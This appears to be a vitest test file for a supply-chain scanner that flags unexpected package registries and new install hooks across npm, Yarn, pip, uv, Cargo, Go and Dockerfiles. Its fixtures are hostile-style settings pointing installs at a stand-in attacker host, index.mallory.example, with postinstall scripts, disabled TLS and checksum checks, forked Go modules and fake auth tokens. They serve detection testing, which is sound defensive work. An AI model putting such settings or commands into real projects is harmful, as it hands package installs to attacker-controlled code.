/** What a change of the files that steer installers says: dependency/install-hook-changed and dependency/registry-unexpected. */
import { describe, expect, it } from 'vitest';
import { checking, type Files } from '../support/checking.ts';
import { LOCKS, REGISTRY } from '../support/locks.ts';

const doors = checking();
const EVIL = 'https://index.mallory.example';

async function told(base: Files, head: Files, policy?: string): Promise<string[]> {
  const { verdict } = await doors.check({ 'a.md': 'a\n', ...base }, head, policy === undefined ? {} : { policy });
  return verdict.findings
    .filter(({ finding }) => /^dependency\/(?:install-hook|registry)/.test(finding.rule))
    .map(
      ({ finding, blocks, status }) =>
        `${status}${blocks ? '!' : ''} ${finding.rule.slice('dependency/'.length)} ${finding.name}: ${finding.reason}`,
    );
}

const registry = (path: string, by: string, server = 'index.mallory.example'): string[] => [
  `new registry-unexpected ${path}: ${by}: nothing before named ${server}, and whoever owns it decides what is installed`,
];
const hook = (path: string, words: string): string[] => [`new install-hook-changed ${path}: ${words}`];
const GO = 'module example.com/app\n\nrequire github.com/x/bar v1.0.0\n';
const FORKED = `${GO}replace github.com/x/bar => github.com/evil/bar v1.0.1\n`;
const json = (value: unknown): string => `${JSON.stringify(value, null, 2)}\n`;

const IMAGE = 'FROM scratch\n';
const berry = (...resolutions: readonly string[]): string =>
  `__metadata:\n  version: 8\n${resolutions.map((one) => `\n"${one}":\n  version: 1.0.0\n  resolution: "${one}"\n`).join('')}`;

describe('a server that nothing in the base names', () => {
  it.each<[string, Files, Files, string[]]>([
    ['npm', {}, { '.npmrc': `registry=${EVIL}/\n` }, registry('.npmrc', 'registry')],
    ['npm, of a scope', {}, { '.npmrc': `@acme:registry = ${EVIL}/npm\n` }, registry('.npmrc', '@acme:registry')],
    ['Yarn 1', {}, { '.yarnrc': `registry "${EVIL}"\n` }, registry('.yarnrc', 'registry')],
    ['Yarn', {}, { '.yarnrc.yml': `npmRegistryServer: "${EVIL}"\n` }, registry('.yarnrc.yml', 'npmRegistryServer')],
    [
      'Yarn, of a scope',
      {},
      { '.yarnrc.yml': `npmScopes:\n  acme:\n    npmRegistryServer: "${EVIL}"\n` },
      registry('.yarnrc.yml', 'npmScopes.acme.npmRegistryServer'),
    ],
    ['Bun', {}, { 'bunfig.toml': `[install]\nregistry = "${EVIL}"\n` }, registry('bunfig.toml', 'install.registry')],
    ['pip', {}, { 'pip.conf': `[global]\nextra-index-url =\n    ${EVIL}/simple\n` }, registry('pip.conf', 'extra-index-url')],
    ['uv', {}, { 'uv.toml': `[[index]]\nname = "x"\nurl = "${EVIL}/simple"\n` }, registry('uv.toml', 'index.x')],
    ['uv, old form', {}, { 'uv.toml': `extra-index-url = ["${EVIL}/simple"]\n` }, registry('uv.toml', 'extra-index-url')],
    [
      'uv in pyproject',
      {},
      { 'pyproject.toml': `[project]\nname = "a"\n[[tool.uv.index]]\nname = "x"\nurl = "${EVIL}/simple"\n` },
      registry('pyproject.toml', 'tool.uv.index.x'),
    ],
    [
      'poetry',
      {},
      { 'pyproject.toml': `[[tool.poetry.source]]\nname = "x"\nurl = "${EVIL}/simple"\npriority = "supplemental"\n` },
      registry('pyproject.toml', 'tool.poetry.source.x'),
    ],
    ['Pipenv', {}, { Pipfile: `[[source]]\nname = "x"\nurl = "${EVIL}/simple"\n` }, registry('Pipfile', 'source.x')],
    [
      'requirements',
      { 'requirements.txt': 'torch==2.6.0\n' },
      { 'requirements.txt': `--extra-index-url ${EVIL}/simple\ntorch==2.6.0\n` },
      registry('requirements.txt', '--extra-index-url'),
    ],
    [
      'a trusted host',
      {},
      { 'requirements.txt': '--trusted-host index.mallory.example\n' },
      registry('requirements.txt', '--trusted-host'),
    ],
    ['Conda', {}, { '.condarc': 'channels:\n  - mallory\n' }, registry('.condarc', 'channels', 'mallory')],
    ['Cargo', {}, { '.cargo/config.toml': `[registries.x]\nindex = "sparse+${EVIL}/"\n` }, registry('.cargo/config.toml', 'registries.x')],
    [
      'a lock, in a new entry',
      { 'package-lock.json': LOCKS[0]?.write([{ name: 'left', version: '1.0.0' }]) ?? '' },
      {
        'package-lock.json':
          LOCKS[0]?.write([
            { name: 'left', version: '1.0.0' },
            { name: 'right', version: '1.0.0', hash: 'b', server: EVIL },
          ]) ?? '',
      },
      registry('package-lock.json', 'right'),
    ],
    [
      'the whole lock',
      {
        'package-lock.json': LOCKS[0]?.write(['a', 'b', 'd', 'e', 'f'].map((hash) => ({ name: `p${hash}`, version: '1.0.0', hash }))) ?? '',
      },
      {
        'package-lock.json':
          LOCKS[0]?.write(['a', 'b', 'd', 'e', 'f'].map((hash) => ({ name: `p${hash}`, version: '1.0.0', hash, server: EVIL }))) ?? '',
      },
      registry('package-lock.json', 'pa, pb, pd and 2 more'),
    ],
    [
      'ENV of an image',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\n` },
      registry('Dockerfile', 'PIP_INDEX_URL'),
    ],
    [
      'ARG of an image',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}ARG UV_INDEX_URL=${EVIL}/simple\n` },
      registry('Dockerfile', 'UV_INDEX_URL'),
    ],
    [
      'ENV of npm',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}ENV NPM_CONFIG_REGISTRY=${EVIL}/\n` },
      registry('Dockerfile', 'NPM_CONFIG_REGISTRY'),
    ],
    [
      'an option of pip, beside the variable',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\nRUN pip install -i ${EVIL}/simple numpy\n` },
      registry('Dockerfile', 'PIP_INDEX_URL, -i'),
    ],
    [
      'one index more of pip',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}RUN pip install --extra-index-url=${EVIL}/simple numpy\n` },
      registry('Dockerfile', '--extra-index-url'),
    ],
    [
      'an option of npm',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}RUN npm i --registry ${EVIL} left\n` },
      registry('Dockerfile', '--registry'),
    ],
    [
      'a setting of pip',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}RUN pip config set global.index-url ${EVIL}/simple\n` },
      registry('Dockerfile', 'global.index-url'),
    ],
    ['a setting of npm in a script', {}, { 'setup.sh': `#!/bin/sh\nnpm config set registry=${EVIL}/\n` }, registry('setup.sh', 'registry')],
    [
      'a variable of a workflow',
      {},
      { '.github/workflows/release.yml': `on: push\nenv:\n  UV_INDEX_URL: ${EVIL}/simple\njobs: {}\n` },
      registry('.github/workflows/release.yml', 'UV_INDEX_URL'),
    ],
    ['a proxy of Go', { Dockerfile: IMAGE }, { Dockerfile: `${IMAGE}ENV GOPROXY=${EVIL},direct\n` }, registry('Dockerfile', 'GOPROXY')],
    [
      'a proxy of Go, set for good',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}RUN go env -w GOPROXY=${EVIL}\n` },
      registry('Dockerfile', 'GOPROXY'),
    ],
    [
      'sums of Go',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}ENV GONOSUMDB=*\nENV GOPRIVATE='*.acme.example'\nENV GOFLAGS=-insecure\nENV GOSUMDB=off\n` },
      hook(
        'Dockerfile',
        'GONOSUMDB is new: what only running it tells; GOPRIVATE is new: *.acme.example; GOFLAGS is new: -insecure; 1 more',
      ),
    ],
    [
      'one that an image names, and a line more',
      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\n` },
      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\nRUN pip install -i ${EVIL}/simple numpy\n`, '.npmrc': `registry=${EVIL}\n` },
      [],
    ],
    ['the first lock', {}, { 'package-lock.json': LOCKS[0]?.write([{ name: 'left', version: '1.0.0' }]) ?? '' }, []],
    [
      'one that a lock names',
      { 'package-lock.json': LOCKS[0]?.write([{ name: 'left', version: '1.0.0' }]) ?? '' },
      { '.npmrc': `registry=${REGISTRY}\n` },
      [],
    ],
    [
      'one that other settings name',
      { 'pip.conf': `[global]\nindex-url = ${EVIL}\n` },
      { 'uv.toml': `index-url = "${EVIL}/simple"\n` },
      [],
    ],
    ['one more line of the file', { '.npmrc': `registry=${EVIL}\n` }, { '.npmrc': `registry=${EVIL}\nsave-exact=true\n` }, []],
    ['a file that moved', { 'a/.npmrc': `registry=${EVIL}\n` }, { 'a/.npmrc': null, 'b/.npmrc': `registry=${EVIL}\n` }, []],
    ['taken away', { '.npmrc': `registry=${EVIL}\n` }, { '.npmrc': null }, []],
  ])('%s', async (_, base, head, expected) => {
    expect(await told(base, head)).toEqual(expected);
  });

  it('keeps no secret, expands nothing (T20, T21)', async () => {
    const { verdict, bom } = await doors.check(
      { 'a.md': 'a\n' },
      {
        '.npmrc':
          '//index.mallory.example/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789\nregistry=https://me:hunter2@index.mallory.example/t/s3cret/?k=s3cret\n',
        'pip.conf': '[global]\nindex-url = https://${TOKEN}@files.mallory.example/simple\nextra-index-url = ${INDEX}\n',
      },
    );
    expect(JSON.stringify({ verdict, bom })).not.toMatch(/hunter2|s3cret|npm_abc|TOKEN|\$\{INDEX/);
    expect(bom.steering?.map(({ value }) => value).sort()).toEqual([
      'https://files.mallory.example',
      'https://index.mallory.example',
      'what the environment says',
    ]);
  });

  it('is allowed by name, and blocks where the policy says so', async () => {
    const policy = (setting: string): string => `version: 1\nrules:\n  dependency/registry-unexpected: ${setting}\n`;
    const head = { '.npmrc': `registry=${EVIL}/\n` };
    expect(await told({}, head, policy('{ level: block, allow: ["*.mallory.example"] }'))).toEqual([]);
    expect((await told({}, head, policy('block')))[0]).toMatch(/^new! registry-unexpected/);
  });
});

describe('what an installer runs, or exchanges', () => {
  it.each<[string, Files, Files, string[]]>([
    [
      'a script',
      {},
      { 'package.json': json({ scripts: { postinstall: 'node x.js' } }) },
      hook('package.json', 'scripts.postinstall is new: node x.js'),
    ],
    [
      'another script',
      { 'package.json': json({ scripts: { prepare: 'husky' } }) },
      { 'package.json': json({ scripts: { prepare: 'node x.js' } }) },
      hook('package.json', 'scripts.prepare: husky → node x.js'),
    ],
    [
      'a setting that nobody here has heard of',
      { '.npmrc': 'save-exact=true\n' },
      { '.npmrc': 'save-exact=true\na-setting-of-tomorrow=true\n' },
      hook('.npmrc', 'a-setting-of-tomorrow is new: true'),
    ],
    [
      'settings in another order, under a comment',
      {
        '.npmrc': 'proxy=http://a.example\nshell=./x\n',
        'pnpm-workspace.yaml': 'pnpmfile: [a.cjs, b.cjs]\nverifyStoreIntegrity: false\n',
        '.cargo/config.toml': '[env]\nX = "1"\nY = { value = "a", force = true }\n',
        'requirements.txt': '--no-index\n-f ./wheels\n',
      },
      {
        '.npmrc': '; why\nshell=./x\nproxy=http://a.example\n',
        'pnpm-workspace.yaml': '# why\nverifyStoreIntegrity: false\npnpmfile:\n  - b.cjs\n  - a.cjs\n',
        '.cargo/config.toml': '# why\n[env]\nY = { force = true, value = "a" }\nX = "1"\n',
        'requirements.txt': '# why\n-f ./wheels\n--no-index\n',
      },
      [],
    ],
    [
      'versions of builders, and how tools look',
      { 'pyproject.toml': '[build-system]\nrequires = ["evil>=1"]\n', '.yarnrc.yml': 'nodeLinker: pnp\n' },
      { 'pyproject.toml': '[build-system]\nrequires = ["evil>=2,<3", "hatchling>=1"]\n', '.yarnrc.yml': 'nodeLinker: node-modules\n' },
      [],
    ],
    [
      'an override',
      { 'package.json': json({ dependencies: { openai: '^4' } }) },
      { 'package.json': json({ dependencies: { openai: '^4' }, overrides: { openai: 'npm:evil@1.0.0' } }) },
      hook('package.json', 'overrides.openai is new: npm:evil@1.0.0'),
    ],
    [
      'a resolution',
      {},
      { 'package.json': json({ resolutions: { 'a/openai': '1.0.0' } }) },
      hook('package.json', 'resolutions.a/openai is new: 1.0.0'),
    ],
    [
      'settings of pnpm',
      { 'pnpm-workspace.yaml': 'packages:\n  - a\n' },
      {
        'pnpm-workspace.yaml':
          'packages:\n  - a\noverrides:\n  left: 1.0.0\nonlyBuiltDependencies:\n  - evil\npatchedDependencies:\n  left: patches/left.patch\n',
      },
      hook(
        'pnpm-workspace.yaml',
        'overrides.left is new: 1.0.0; onlyBuiltDependencies.evil is new: may run its scripts at install; patchedDependencies.left is new: patches/left.patch',
      ),
    ],
    ['yarnPath', {}, { '.yarnrc.yml': 'yarnPath: ./x.cjs\n' }, hook('.yarnrc.yml', 'yarnPath is new: ./x.cjs')],
    [
      'a patch in a lock of Yarn, beside one of its own',
      { 'yarn.lock': berry() },
      { 'yarn.lock': berry('bar@patch:bar@npm%3A1.0.0#./bar.patch', 'foo@patch:foo@npm%3A1.0.0#optional!builtin<compat/foo>') },
      hook('yarn.lock', 'patch.bar is new: ./bar.patch'),
    ],
    ['a plugin', {}, { '.yarnrc.yml': 'plugins:\n  - ./p.cjs\n' }, hook('.yarnrc.yml', 'plugins../p.cjs is new: ./p.cjs')],
    [
      'npm',
      {},
      { '.npmrc': 'script-shell=./x.sh\nignore-scripts=true\nstrict-ssl=false\n' },
      hook('.npmrc', 'script-shell is new: ./x.sh; strict-ssl is new: false'),
    ],
    [
      'the strategy of uv',
      {},
      { 'uv.toml': 'index-strategy = "unsafe-best-match"\n' },
      hook('uv.toml', 'index-strategy is new: unsafe-best-match'),
    ],
    [
      'an override of uv',
      {},
      { 'pyproject.toml': '[tool.uv]\noverride-dependencies = ["torch @ git+https://git.example/m/torch"]\n' },
      hook('pyproject.toml', 'tool.uv.override-dependencies.torch is new: @ git+https://git.example/m/torch'),
    ],
    [
      'a patch of Cargo',
      {},
      { 'Cargo.toml': '[patch.crates-io]\ncandle-core = { git = "https://git.example/m/candle" }\n' },
      hook('Cargo.toml', 'patch.crates-io.candle-core is new: https://git.example/m/candle'),
    ],
    [
      'a replaced source of Cargo',
      {},
      { '.cargo/config.toml': '[source.crates-io]\nreplace-with = "x"\n' },
      hook('.cargo/config.toml', 'source.crates-io.replace-with is new: x'),
    ],
    [
      'a replaced module of Go',
      { 'go.mod': GO },
      { 'go.mod': FORKED },
      hook('go.mod', 'replace.github.com/x/bar is new: github.com/evil/bar v1.0.1'),
    ],
    [
      'a module of Go in a folder',
      { 'go.mod': GO },
      { 'go.mod': `${GO}replace github.com/x/bar => ./bar\n`, 'bar/go.mod': 'module github.com/x/bar\n' },
      hook('go.mod', 'replace.github.com/x/bar is new: ./bar'),
    ],
    [
      'a workspace of Go',
      { 'go.mod': GO },
      { 'go.work': 'go 1.24\nuse .\nreplace github.com/x/bar => github.com/evil/bar v1.0.1\n' },
      hook('go.work', 'replace.github.com/x/bar is new: github.com/evil/bar v1.0.1'),
    ],
    ['a fork of Go in a higher version', { 'go.mod': FORKED }, { 'go.mod': FORKED.replace('v1.0.1', 'v1.0.2') }, []],
    [
      'another fork of Go',
      { 'go.mod': FORKED },
      { 'go.mod': FORKED.replace('evil/bar v1.0.1', 'other/bar v1.0.2') },
      hook('go.mod', 'replace.github.com/x/bar: github.com/evil/bar v1.0.1 → github.com/other/bar v1.0.2'),
    ],
    [
      'own modules of Go in their folders',
      { 'go.mod': GO, 'lib/go.mod': 'module example.com/app/lib\n', 'b/go.mod': 'module b\nrequire example.com/app/lib v1.0.0\n' },
      {
        'go.mod': `${GO}require example.com/app/lib v1.0.0\nreplace example.com/app/lib => ./lib\n`,
        'new/go.mod': 'module example.com/app/new\nrequire example.com/app v1.0.0\nreplace example.com/app => ../\n',
        'b/go.mod':
          'module b\nrequire example.com/app/lib v1.0.0\nrequire example.com/app/new v1.0.0\nreplace example.com/app/new => ../new\n',
      },
      [],
    ],
    [
      'a higher plain version of an override',
      { 'package.json': json({ overrides: { left: '^1.0.0' } }) },
      { 'package.json': json({ overrides: { left: '^1.2.0' } }) },
      [],
    ],
    [
      'a lower one',
      { 'package.json': json({ overrides: { left: '1.2.0' } }) },
      { 'package.json': json({ overrides: { left: '1.0.0' } }) },
      hook('package.json', 'overrides.left: 1.2.0 → 1.0.0'),
    ],
    [
      'the manager in another version',
      { 'package.json': json({ packageManager: 'pnpm@9.0.0' }) },
      { 'package.json': json({ packageManager: 'pnpm@9.1.0' }) },
      [],
    ],
    ['other scripts', {}, { 'package.json': json({ scripts: { test: 'vitest', postbuild: 'x' } }) }, []],
    ['an installed package', {}, { 'node_modules/a/package.json': json({ scripts: { postinstall: 'x' } }) }, []],
    ['what is taken away', { 'package.json': json({ scripts: { prepare: 'husky' } }) }, { 'package.json': json({}) }, []],
    [
      'a file that moved',
      { 'a/package.json': json({ scripts: { prepare: 'husky' } }) },
      { 'a/package.json': null, 'b/package.json': json({ scripts: { prepare: 'husky' } }) },
      [],
    ],
  ])('%s', async (_, base, head, expected) => {
    expect(await told(base, head)).toEqual(expected);
  });

  it('code and patches by their bytes', async () => {
    const files = { '.pnpmfile.cjs': 'a\n', '.yarn/releases/yarn-4.cjs': 'a\n', 'patches/left+1.0.0.patch': 'a\n' };
    const named = (all: readonly string[]): string[] => all.map((one) => /changed (\S+):/.exec(one)?.[1] ?? one);
    expect(named(await told({}, files)).sort()).toEqual(['.pnpmfile.cjs', '.yarn/releases/yarn-4.cjs', 'patches/left+1.0.0.patch']);
    expect(named(await told(files, { '.pnpmfile.cjs': 'b\n' }))).toEqual(['.pnpmfile.cjs']);
    expect(await told(files, { 'a.md': 'b\n' })).toEqual([]);
  });
});
